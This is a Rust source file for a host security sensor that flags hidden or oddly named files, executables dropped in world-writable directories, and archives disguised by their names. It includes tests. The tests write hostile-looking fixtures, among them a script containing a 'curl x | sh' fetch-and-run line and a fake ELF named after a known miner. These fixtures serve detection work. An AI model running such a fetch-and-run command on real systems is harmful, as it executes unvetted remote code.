//! `file.odd_name`: files and directories with names meant to hide, in watched
//! directories: a leading or trailing space, control characters, bytes that are
//! not UTF-8, and (where config says dotfiles are unexpected) a leading dot.
//! Names made only of dots and spaces (`...`, `. .`) are always odd. In the
//! world-writable, volatile directories of `hidden_in` (`/tmp`, `/var/tmp`,
//! `/dev/shm`) a dotfile or dot-directory is odd too (`hidden`, ATT&CK T1564.001),
//! but for the X server's and ICE's own sockets directories; in home directories
//! dotfiles are ordinary.
//!
//! `file.executable_dropped` (high, T1105): a regular file with an execute bit
//! whose first bytes are an ELF header or a `#!` line, created or changed under a
//! `hidden_in` directory — whether or not it ever runs.
//!
//! The same walk finds `file.archive`: regular files created or changed since
//! the previous walk whose first bytes are those of an archive — zip, rar, 7z,
//! tar, gzip, bzip2, xz or zstd — whatever their name. Office documents, jars
//! and other zip-based formats are told apart by their first member, so a zip
//! renamed `.docx` is still an archive.
//!
//! Each odd path and each archive is reported once while it exists; what was
//! reported is kept across restarts. Symlinks are never followed.
//!
//! With `realtime` (the default), inotify reports creations as they happen
//! ([`super::creations`]): the sensor is woken and checks just those paths, so
//! a file dropped in `/tmp` is reported within a second, not at the next walk.
//! The walk still runs every interval and after any lost event.

use std::collections::{BTreeMap, BTreeSet};
use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::time::Duration;

use bannin_proto::v1::Severity;

use std::sync::{Arc, Mutex};

use super::source::creations::Created;
use super::{Health, HostRoot, Sensor, SensorError, Sweep, event};
use crate::config::OddNameConfig;
use crate::host::paths::escape;

/// Most odd paths remembered; past it, the oldest reports may repeat.
const MAX_REMEMBERED: usize = 100_000;

/// Why a name is odd, or `None`.
pub fn oddity(name: &OsStr, dotfiles_unexpected: bool) -> Option<&'static str> {
    let bytes = name.as_bytes();
    if std::str::from_utf8(bytes).is_err() {
        return Some("non_utf8");
    }
    if bytes.iter().any(|b| *b < 0x20 || *b == 0x7f) {
        return Some("control_character");
    }
    if bytes.first() == Some(&b' ') {
        return Some("leading_space");
    }
    if bytes.last() == Some(&b' ') {
        return Some("trailing_space");
    }
    if bytes.len() > 2 && bytes.iter().all(|b| *b == b'.' || *b == b' ') {
        return Some("dots_only");
    }
    if dotfiles_unexpected && bytes.first() == Some(&b'.') {
        return Some("leading_dot");
    }
    None
}

/// An executable's format by its first bytes, if it is a regular file with an
/// execute bit: `elf` or `script` (`#!`).
pub fn executable_format(head: &[u8], meta: &std::fs::Metadata) -> Option<&'static str> {
    if !meta.is_file() || meta.mode() & 0o111 == 0 {
        return None;
    }
    if head.starts_with(b"\x7fELF") {
        Some("elf")
    } else if head.starts_with(b"#!") {
        Some("script")
    } else {
        None
    }
}

/// What the sensor remembers.
#[derive(Debug, Clone, Default, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct OddState {
    /// Odd paths already reported and still present.
    pub reported: BTreeSet<String>,
    /// Archives already reported and still present.
    pub archives: BTreeSet<String>,
    /// Executables dropped in volatile directories already reported and still present.
    #[serde(default)]
    pub dropped: BTreeSet<String>,
    /// Start of the last walk (ctime ns): files changed after it are sniffed.
    /// (i64, not i128: serde's untagged enums cannot buffer 128-bit integers,
    /// and a state that fails to load would make the sensor report everything again.)
    pub since_ns: i64,
}

/// The saved state, in its current or its first form (a set of odd paths).
#[derive(Debug, serde::Deserialize)]
#[serde(untagged)]
pub enum SavedOdd {
    /// Current.
    Current(OddState),
    /// Before archives were tracked.
    Legacy(BTreeSet<String>),
}

/// The archive format of a file's first bytes, if any.
pub fn archive_format(head: &[u8]) -> Option<&'static str> {
    let starts = |m: &[u8]| head.starts_with(m);
    if starts(b"PK\x03\x04") {
        // Zip-based documents and packages name a marker as their first member.
        let len = head
            .get(26..28)
            .map(|b| usize::from(u16::from_le_bytes([b[0], b[1]])))
            .unwrap_or(0);
        let first = head.get(30..30 + len).unwrap_or_default();
        let document: [&[u8]; 4] = [
            b"[Content_Types].xml",
            b"mimetype",
            b"META-INF/",
            b"AndroidManifest.xml",
        ];
        return (!document.contains(&first)).then_some("zip");
    }
    if starts(b"PK\x05\x06") || starts(b"PK\x07\x08") {
        return Some("zip");
    }
    if starts(b"Rar!\x1a\x07") {
        return Some("rar");
    }
    if starts(b"7z\xbc\xaf\x27\x1c") {
        return Some("7z");
    }
    if starts(b"\x1f\x8b") {
        return Some("gzip");
    }
    if starts(b"BZh") && head.get(3).is_some_and(|b| (b'1'..=b'9').contains(b)) {
        return Some("bzip2");
    }
    if starts(b"\xfd7zXZ\x00") {
        return Some("xz");
    }
    if starts(b"\x28\xb5\x2f\xfd") {
        return Some("zstd");
    }
    if head.get(257..262) == Some(b"ustar") {
        return Some("tar");
    }
    None
}

/// The sensor.
pub struct OddNames {
    root: HostRoot,
    config: OddNameConfig,
    state: OddState,
    first: bool,
    /// Creations queued by the inotify reader, when it runs.
    created: Option<Arc<Mutex<Created>>>,
    /// Why inotify is not watching, if it was asked to and is not.
    realtime_problem: Option<String>,
    wake: Arc<tokio::sync::Notify>,
    last_walk: Option<std::time::Instant>,
    /// What the last full walk could not see (a partial sweep keeps it).
    walk_problem: Option<String>,
}

impl OddNames {
    /// A sensor walking `config.paths` under `root`, remembering what it reported before.
    pub fn new(root: HostRoot, config: OddNameConfig, saved: Option<SavedOdd>) -> Self {
        let first = saved.is_none();
        let state = match saved {
            Some(SavedOdd::Current(s)) => s,
            Some(SavedOdd::Legacy(reported)) => OddState {
                reported,
                ..OddState::default()
            },
            None => OddState::default(),
        };
        let wake = Arc::new(tokio::sync::Notify::new());
        let (created, realtime_problem) = if config.realtime {
            let queue = Arc::new(Mutex::new(Created::default()));
            match super::source::creations::start(
                root.clone(),
                config.paths.clone(),
                config.max_depth,
                config.max_watches,
                queue.clone(),
                wake.clone(),
            ) {
                Ok(()) => (Some(queue), None),
                Err(why) => (None, Some(why)),
            }
        } else {
            (None, None)
        };
        Self {
            root,
            config,
            state,
            first,
            created,
            realtime_problem,
            wake,
            last_walk: None,
            walk_problem: None,
        }
    }
}

struct Walk {
    odd: Vec<(PathBuf, &'static str, std::fs::Metadata)>,
    /// Regular files changed since the last walk.
    fresh: Vec<(PathBuf, std::fs::Metadata)>,
    since_ns: i64,
    seen: usize,
    denied: BTreeSet<String>,
    truncated: bool,
    /// Only paths inotify reported were looked at: nothing can be forgotten.
    partial: bool,
}

/// Dot-directories the system itself keeps in `/tmp` (X11, ICE and font server
/// sockets, made by systemd-tmpfiles at boot): never `hidden`.
const SYSTEM_DOT_DIRS: &[&str] = &[
    ".X11-unix",
    ".ICE-unix",
    ".XIM-unix",
    ".font-unix",
    ".Test-unix",
];

impl OddNames {
    /// Whether `path` (named `name`) is a dotfile directly inside a `hidden_in`
    /// directory, and not one the system keeps there.
    fn hidden_here(&self, path: &Path, name: &OsStr) -> bool {
        let bytes = name.as_bytes();
        if bytes.first() != Some(&b'.') || bytes == b"." || bytes == b".." {
            return false;
        }
        let Some(parent) = path.parent() else {
            return false;
        };
        if !self.config.hidden_in.iter().any(|d| d == parent) {
            return false;
        }
        let text = name.to_string_lossy();
        // `.X0-lock` … the X server's lock files.
        let x_lock = text.len() > ".X-lock".len()
            && text.starts_with(".X")
            && text.ends_with("-lock")
            && text[2..text.len() - 5].bytes().all(|b| b.is_ascii_digit());
        !SYSTEM_DOT_DIRS.contains(&text.as_ref()) && !x_lock
    }

    /// Whether `path` lies under a `hidden_in` directory.
    fn volatile(&self, path: &Path) -> bool {
        self.config.hidden_in.iter().any(|d| path.starts_with(d))
    }

    fn walk(&self, host_path: &Path, depth: usize, walk: &mut Walk) {
        let real = self.root.join(host_path);
        let entries = match std::fs::read_dir(&real) {
            Ok(e) => e,
            Err(e) if e.kind() == std::io::ErrorKind::PermissionDenied => {
                walk.denied.insert(host_path.display().to_string());
                return;
            }
            Err(_) => return,
        };
        for entry in entries.flatten() {
            if walk.seen >= self.config.max_entries {
                walk.truncated = true;
                return;
            }
            walk.seen += 1;
            // DirEntry::metadata does not follow symlinks.
            let Ok(meta) = entry.metadata() else { continue };
            self.consider(host_path.join(entry.file_name()), meta, depth, walk);
        }
    }

    /// Checks one entry found at `depth`: its name, its first bytes if it
    /// changed since the last walk, and below it if it is a directory.
    fn consider(&self, child: PathBuf, meta: std::fs::Metadata, depth: usize, walk: &mut Walk) {
        if self.config.exclude.iter().any(|x| child.starts_with(x)) {
            return;
        }
        if let Some(name) = child.file_name() {
            if let Some(why) = oddity(name, self.config.dotfiles_unexpected) {
                walk.odd.push((child.clone(), why, meta.clone()));
            } else if self.hidden_here(&child, name) {
                walk.odd.push((child.clone(), "hidden", meta.clone()));
            }
        }
        let ctime_ns = meta
            .ctime()
            .saturating_mul(1_000_000_000)
            .saturating_add(meta.ctime_nsec());
        if meta.is_file() && meta.len() >= 4 && ctime_ns >= walk.since_ns {
            walk.fresh.push((child.clone(), meta.clone()));
        }
        if meta.is_dir() && depth < self.config.max_depth {
            self.walk(&child, depth + 1, walk);
        }
    }
}

impl Sensor for OddNames {
    fn name(&self) -> &'static str {
        "file_odd_name"
    }

    fn relearn(&mut self) {
        self.first = true;
    }

    fn interval(&self) -> Duration {
        self.config.common.interval
    }

    fn waker(&self) -> Option<Arc<tokio::sync::Notify>> {
        self.created.as_ref().map(|_| self.wake.clone())
    }

    fn sweep(&mut self, sweep: &mut Sweep) -> Result<Health, SensorError> {
        let out = &mut sweep.events;
        let started_ns = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map(|d| i64::try_from(d.as_nanos()).unwrap_or(i64::MAX))
            .unwrap_or(0);
        let mut walk = Walk {
            fresh: Vec::new(),
            // The first walk learns what is there: only later files are sniffed.
            since_ns: if self.first {
                i64::MAX
            } else {
                self.state.since_ns
            },
            odd: Vec::new(),
            seen: 0,
            denied: BTreeSet::new(),
            truncated: false,
            partial: false,
        };
        let (queued, lost, realtime_failed) = match &self.created {
            Some(q) => {
                let mut q = bannin_proto::lock(q);
                let paths: BTreeSet<(PathBuf, usize)> = q.paths.drain(..).collect();
                (paths, std::mem::take(&mut q.overflowed), q.failed.clone())
            }
            None => (BTreeSet::new(), false, None),
        };
        // Woken by inotify sooner than an interval after the last walk: only
        // what it reported needs a look.
        let due = self.created.is_none()
            || self
                .last_walk
                .is_none_or(|t| t.elapsed() + super::WAKE_DEBOUNCE >= self.config.common.interval);
        if self.first || due || lost || realtime_failed.is_some() {
            for p in &self.config.paths {
                self.walk(p, 1, &mut walk);
            }
            self.last_walk = Some(std::time::Instant::now());
        } else {
            walk.partial = true;
            for (path, depth) in queued {
                // Gone already, or a symlink's target: nothing to see.
                let Ok(meta) = std::fs::symlink_metadata(self.root.join(&path)) else {
                    continue;
                };
                self.consider(path, meta, depth, &mut walk);
            }
        }
        // since_ns rides along whenever the state is saved: a stale one only
        // means more files are sniffed after a restart, never a repeat report.
        let mut changed = self.first;
        let mut archives_present = BTreeSet::new();
        for (path, meta) in &walk.fresh {
            let shown = escape(path);
            let mut head = [0u8; 512];
            let n = std::fs::File::open(self.root.join(path))
                .and_then(|mut f| {
                    use std::io::Read;
                    f.read(&mut head)
                })
                .unwrap_or(0);
            if let Some(format) = executable_format(&head[..n], meta)
                && self.volatile(path)
                && !self.state.dropped.contains(&shown)
            {
                out.push(event(
                    "file.executable_dropped",
                    Severity::High,
                    true,
                    BTreeMap::from([
                        ("path".to_owned(), shown.clone()),
                        ("format".to_owned(), format.to_owned()),
                        ("size".to_owned(), meta.len().to_string()),
                        ("uid".to_owned(), meta.uid().to_string()),
                        ("mode".to_owned(), format!("{:o}", meta.mode() & 0o7777)),
                        (
                            "reason".to_owned(),
                            "an executable written to a world-writable, volatile directory"
                                .to_owned(),
                        ),
                        ("attack.technique".to_owned(), "T1105".to_owned()),
                    ]),
                    format!("{format} executable dropped in a volatile directory: {shown}"),
                ));
                if self.state.dropped.len() < MAX_REMEMBERED {
                    self.state.dropped.insert(shown.clone());
                }
                changed = true;
            }
            let Some(format) = archive_format(&head[..n]) else {
                continue;
            };
            archives_present.insert(shown.clone());
            if self.state.archives.contains(&shown) {
                continue;
            }
            let extension = path
                .extension()
                .map(|e| e.to_string_lossy().to_lowercase())
                .unwrap_or_default();
            let disguised = !matches!(
                (format, extension.as_str()),
                ("zip", "zip")
                    | ("rar", "rar")
                    | ("7z", "7z")
                    | ("tar", "tar")
                    | ("gzip", "gz" | "tgz")
                    | ("bzip2", "bz2" | "tbz2")
                    | ("xz", "xz" | "txz")
                    | ("zstd", "zst" | "tzst")
            );
            out.push(event(
                "file.archive",
                Severity::Medium,
                true,
                BTreeMap::from([
                    ("path".to_owned(), shown.clone()),
                    ("format".to_owned(), format.to_owned()),
                    ("extension".to_owned(), extension),
                    ("disguised".to_owned(), disguised.to_string()),
                    ("size".to_owned(), meta.len().to_string()),
                    ("uid".to_owned(), meta.uid().to_string()),
                ]),
                if disguised {
                    format!("{format} archive disguised by its name: {shown}")
                } else {
                    format!("new {format} archive: {shown}")
                },
            ));
            if self.state.archives.len() < MAX_REMEMBERED {
                self.state.archives.insert(shown);
            }
            changed = true;
        }
        if !walk.truncated && !walk.partial {
            // Archives gone from the watched paths are forgotten (they may come back).
            let before = self.state.archives.len() + self.state.dropped.len();
            let root = &self.root;
            self.state
                .archives
                .retain(|p| archives_present.contains(p) || root.join(p).exists());
            self.state.dropped.retain(|p| root.join(p).exists());
            changed |= self.state.archives.len() + self.state.dropped.len() != before;
        }
        if !walk.partial {
            self.state.since_ns = started_ns;
        }
        self.first = false;
        let reported = &mut self.state.reported;
        let mut present = BTreeSet::new();
        let mut built = 0usize;
        let mut overflow: Vec<String> = Vec::new();
        let mut overflow_count = 0u64;
        for (path, why, meta) in walk.odd {
            let shown = escape(&path);
            present.insert(shown.clone());
            if reported.contains(&shown) {
                continue;
            }
            // Past the folding threshold the findings would be folded anyway:
            // count them instead of building them, so a storm costs a counter.
            if built >= self.config.max_events {
                overflow_count += 1;
                if overflow.len() < 5 {
                    overflow.push(shown.clone());
                }
                if reported.len() < MAX_REMEMBERED {
                    reported.insert(shown);
                }
                changed = true;
                continue;
            }
            built += 1;
            let kind = if meta.is_dir() {
                "directory"
            } else if meta.file_type().is_symlink() {
                "symlink"
            } else {
                "file"
            };
            let mut attributes = BTreeMap::from([
                ("path".to_owned(), shown.clone()),
                ("reason".to_owned(), why.to_owned()),
                ("type".to_owned(), kind.to_owned()),
                ("uid".to_owned(), meta.uid().to_string()),
                ("mode".to_owned(), format!("{:o}", meta.mode() & 0o7777)),
                ("size".to_owned(), meta.len().to_string()),
            ]);
            if why == "hidden" {
                attributes.insert("attack.technique".into(), "T1564.001".into());
            }
            out.push(event(
                "file.odd_name",
                self.config.common.severity,
                true,
                attributes,
                format!("{kind} with an odd name ({why}): {shown}"),
            ));
            if reported.len() < MAX_REMEMBERED {
                reported.insert(shown);
            }
            changed = true;
        }
        if overflow_count > 0 {
            out.push(event(
                "file.odd_name",
                self.config.common.severity,
                true,
                BTreeMap::from([
                    ("folded_count".to_owned(), overflow_count.to_string()),
                    ("examples".to_owned(), overflow.join(" | ")),
                ]),
                format!(
                    "{overflow_count} more odd names, e.g. {}",
                    overflow.join(", ")
                ),
            ));
        }
        // Forget what is gone, so it is reported again if it comes back.
        let before = reported.len();
        if !walk.truncated && !walk.partial {
            reported.retain(|p| present.contains(p));
        }
        if changed || reported.len() != before {
            sweep.save_state(&self.state);
        }
        let walk_problem = if walk.partial {
            self.walk_problem.clone()
        } else if !walk.denied.is_empty() {
            let total = walk.denied.len();
            let mut list: Vec<_> = walk.denied.into_iter().take(5).collect();
            if total > list.len() {
                list.push(format!("and {} more", total - list.len()));
            }
            Some(format!(
                "permission denied reading {} (run as root to watch them)",
                list.join(", ")
            ))
        } else if walk.truncated {
            Some(format!(
                "stopped after {} entries (sensors.file_odd_name.max_entries)",
                self.config.max_entries
            ))
        } else {
            None
        };
        self.walk_problem.clone_from(&walk_problem);
        let unwatched = self
            .created
            .as_ref()
            .map_or(0, |q| bannin_proto::lock(q).unwatched);
        let problems: Vec<String> = walk_problem
            .into_iter()
            .chain(self.realtime_problem.clone())
            .chain(realtime_failed)
            .chain((unwatched > 0).then(|| {
                format!(
                    "{unwatched} directories beyond sensors.file_odd_name.max_watches are seen at each walk only"
                )
            }))
            .collect();
        Ok(if problems.is_empty() {
            Health::Ok
        } else {
            Health::Degraded(problems.join("; "))
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::ffi::OsString;
    use std::os::unix::ffi::OsStringExt;

    #[test]
    fn odd_names_are_recognised() {
        assert_eq!(oddity(OsStr::new(" x"), false), Some("leading_space"));
        assert_eq!(oddity(OsStr::new("x "), false), Some("trailing_space"));
        assert_eq!(oddity(OsStr::new("a\tb"), false), Some("control_character"));
        assert_eq!(
            oddity(&OsString::from_vec(vec![b'a', 0xff]), false),
            Some("non_utf8")
        );
        assert_eq!(oddity(OsStr::new("..."), false), Some("dots_only"));
        assert_eq!(oddity(OsStr::new(".bashrc"), false), None);
        assert_eq!(oddity(OsStr::new(".bashrc"), true), Some("leading_dot"));
        assert_eq!(oddity(OsStr::new("report.pdf"), true), None);
    }

    #[test]
    fn saved_state_loads_back() {
        let state = OddState {
            reported: BTreeSet::from(["/tmp/ x".to_owned()]),
            archives: BTreeSet::from(["/tmp/a.zip".to_owned()]),
            dropped: BTreeSet::from(["/tmp/x.elf".to_owned()]),
            since_ns: 1_795_000_000_000_000_000,
        };
        let json = serde_json::to_vec(&state).expect("json");
        match serde_json::from_slice::<SavedOdd>(&json).expect("loads") {
            SavedOdd::Current(s) => assert_eq!(s, state),
            SavedOdd::Legacy(_) => panic!("read as the legacy form"),
        }
        let legacy = serde_json::to_vec(&state.reported).expect("json");
        assert!(matches!(
            serde_json::from_slice::<SavedOdd>(&legacy).expect("loads"),
            SavedOdd::Legacy(_)
        ));
    }

    #[test]
    fn archives_by_magic_and_documents_apart() {
        let zip_member = |name: &[u8]| {
            let mut h = b"PK\x03\x04".to_vec();
            h.resize(26, 0);
            h.extend_from_slice(&(name.len() as u16).to_le_bytes());
            h.extend_from_slice(&[0, 0]);
            h.extend_from_slice(name);
            h
        };
        assert_eq!(
            archive_format(&zip_member(b"loot/passwords.txt")),
            Some("zip")
        );
        assert_eq!(archive_format(&zip_member(b"[Content_Types].xml")), None);
        assert_eq!(archive_format(&zip_member(b"mimetype")), None);
        assert_eq!(archive_format(b"Rar!\x1a\x07\x01\x00"), Some("rar"));
        assert_eq!(archive_format(b"7z\xbc\xaf\x27\x1c\x00\x04"), Some("7z"));
        assert_eq!(archive_format(b"\x1f\x8b\x08\x00"), Some("gzip"));
        assert_eq!(archive_format(b"BZh91AY"), Some("bzip2"));
        assert_eq!(archive_format(b"BZhello"), None);
        assert_eq!(archive_format(b"\xfd7zXZ\x00\x00"), Some("xz"));
        assert_eq!(archive_format(b"\x28\xb5\x2f\xfd\x00"), Some("zstd"));
        let mut tar = vec![0u8; 512];
        tar[257..262].copy_from_slice(b"ustar");
        assert_eq!(archive_format(&tar), Some("tar"));
        assert_eq!(archive_format(b"#!/bin/sh\n"), None);
    }

    #[test]
    fn escaping_keeps_paths_on_one_line() {
        let p = PathBuf::from(OsString::from_vec(b"/tmp/a\nb\xff\\".to_vec()));
        assert_eq!(escape(&p), "/tmp/a\\x0ab\\xff\\\\");
    }
}

#[cfg(test)]
mod realtime_tests {
    use super::*;
    use crate::config::SensorCommon;

    fn sensor(root: &Path) -> OddNames {
        let config = OddNameConfig {
            common: SensorCommon {
                enabled: true,
                // Never due again: every later sweep is inotify's alone.
                interval: Duration::from_secs(3600),
                severity: Severity::Medium,
            },
            paths: vec![PathBuf::from("/w")],
            dotfiles_unexpected: false,
            hidden_in: vec![PathBuf::from("/w/shm")],
            max_depth: 4,
            max_entries: 10_000,
            max_events: 100,
            realtime: true,
            max_watches: 100,
            exclude: vec![PathBuf::from("/w/own")],
        };
        OddNames::new(HostRoot(root.to_path_buf()), config, None)
    }

    /// Sweeps until `want` findings arrived (inotify's reader runs apart).
    fn sweep_until(s: &mut OddNames, want: usize) -> Vec<bannin_proto::v1::Event> {
        let deadline = std::time::Instant::now() + Duration::from_secs(10);
        let mut events = Vec::new();
        while events.len() < want && std::time::Instant::now() < deadline {
            let mut sweep = Sweep::default();
            assert_eq!(s.sweep(&mut sweep).expect("sweep"), Health::Ok);
            events.extend(sweep.events);
            std::thread::sleep(Duration::from_millis(50));
        }
        events
    }

    #[test]
    fn creations_are_checked_without_a_walk_and_nothing_is_forgotten() {
        let dir = tempfile::tempdir().expect("tempdir");
        std::fs::create_dir_all(dir.path().join("w/own")).expect("w");
        std::fs::write(dir.path().join("w/ old"), b"x").expect("old odd");
        // Bannin's own data (`exclude`): never a finding, at the walk or after.
        std::fs::write(dir.path().join("w/own/ odd"), b"x").expect("own odd");
        let mut s = sensor(dir.path());
        let first = sweep_until(&mut s, 1);
        assert_eq!(first.len(), 1, "{first:?}");
        assert!(s.created.is_some(), "inotify runs");
        std::thread::sleep(Duration::from_millis(300)); // the reader's watches
        std::fs::create_dir(dir.path().join("w/sub")).expect("sub");
        std::fs::write(dir.path().join("w/sub/report.pdf"), b"PK\x05\x06\0\0\0\0").expect("zip");
        std::fs::write(dir.path().join("w/\u{7}bell"), b"x").expect("odd");
        std::fs::write(
            dir.path().join("w/own/e1.tar.zst"),
            b"\x28\xb5\x2f\xfd\0\0\0\0",
        )
        .expect("own bundle");
        let found = sweep_until(&mut s, 2);
        let kinds: BTreeSet<(String, String)> = found
            .iter()
            .map(|e| (e.kind.clone(), e.attributes["path"].clone()))
            .collect();
        assert_eq!(
            kinds,
            BTreeSet::from([
                ("file.archive".to_owned(), "/w/sub/report.pdf".to_owned()),
                ("file.odd_name".to_owned(), "/w/\\x07bell".to_owned()),
            ]),
            "{found:?}"
        );
        assert!(
            found
                .iter()
                .all(|e| e.attributes.get("path").map(String::as_str) != Some("/w/ old"))
        );
        // The partial sweeps kept what the walk reported.
        assert!(s.state.reported.contains("/w/ old"));
    }

    #[test]
    fn hidden_files_and_dropped_executables_where_attackers_put_them() {
        use std::os::unix::fs::PermissionsExt;
        let dir = tempfile::tempdir().expect("tempdir");
        let w = dir.path().join("w");
        std::fs::create_dir_all(w.join("shm/.X11-unix")).expect("x11");
        std::fs::create_dir_all(w.join("home/ana")).expect("home");
        let mut s = sensor(dir.path());
        let mut first = Sweep::default();
        s.sweep(&mut first).expect("first walk");
        assert!(
            first.events.is_empty(),
            "the X11 socket directory is the system's: {:?}",
            first.events
        );
        std::thread::sleep(Duration::from_millis(300)); // the reader's watches
        std::fs::write(w.join("shm/.cache-x"), b"x").expect("hidden");
        std::fs::write(w.join("shm/.X0-lock"), b"1234").expect("x lock");
        std::fs::write(w.join("shm/.X-lock"), b"x").expect("not an X lock");
        std::fs::write(w.join("home/ana/.bashrc"), b"x").expect("dotfile at home");
        let elf = w.join("shm/kdevtmpfsi");
        std::fs::write(&elf, b"\x7fELF\x02\x01\x01\0rest").expect("elf");
        std::fs::set_permissions(&elf, std::fs::Permissions::from_mode(0o755)).expect("chmod");
        let script = w.join("shm/run.sh");
        std::fs::write(&script, b"#!/bin/sh\ncurl x | sh\n").expect("script");
        std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o700)).expect("chmod");
        std::fs::write(w.join("shm/notes.txt"), b"#!/bin/sh but not executable").expect("text");
        let found = sweep_until(&mut s, 4);
        let kinds: BTreeSet<(String, String)> = found
            .iter()
            .map(|e| (e.kind.clone(), e.attributes["path"].clone()))
            .collect();
        assert_eq!(
            kinds,
            BTreeSet::from([
                ("file.odd_name".to_owned(), "/w/shm/.cache-x".to_owned()),
                ("file.odd_name".to_owned(), "/w/shm/.X-lock".to_owned()),
                (
                    "file.executable_dropped".to_owned(),
                    "/w/shm/kdevtmpfsi".to_owned()
                ),
                (
                    "file.executable_dropped".to_owned(),
                    "/w/shm/run.sh".to_owned()
                ),
            ]),
            "{found:?}"
        );
        let hidden = found
            .iter()
            .find(|e| e.kind == "file.odd_name" && e.attributes["path"] == "/w/shm/.cache-x")
            .expect("hidden");
        assert_eq!(hidden.attributes["reason"], "hidden");
        assert_eq!(hidden.attributes["attack.technique"], "T1564.001");
        let dropped = found
            .iter()
            .find(|e| e.attributes["path"] == "/w/shm/kdevtmpfsi")
            .expect("elf");
        assert_eq!(dropped.attributes["format"], "elf");
        assert_eq!(dropped.severity, Severity::High as i32);
        // Reported once while it is there: a later sweep that reports something
        // else (proof it looked) does not report the executables again.
        std::fs::write(w.join("shm/ trigger"), b"x").expect("another creation");
        let mut later = std::fs::File::options()
            .append(true)
            .open(&elf)
            .expect("elf");
        std::io::Write::write_all(&mut later, b"more").expect("touch the elf");
        drop(later);
        let again = sweep_until(&mut s, 1);
        assert!(
            again
                .iter()
                .any(|e| e.attributes["path"] == "/w/shm/ trigger"),
            "{again:?}"
        );
        assert!(
            again.iter().all(|e| e.kind != "file.executable_dropped"),
            "{again:?}"
        );
    }
}
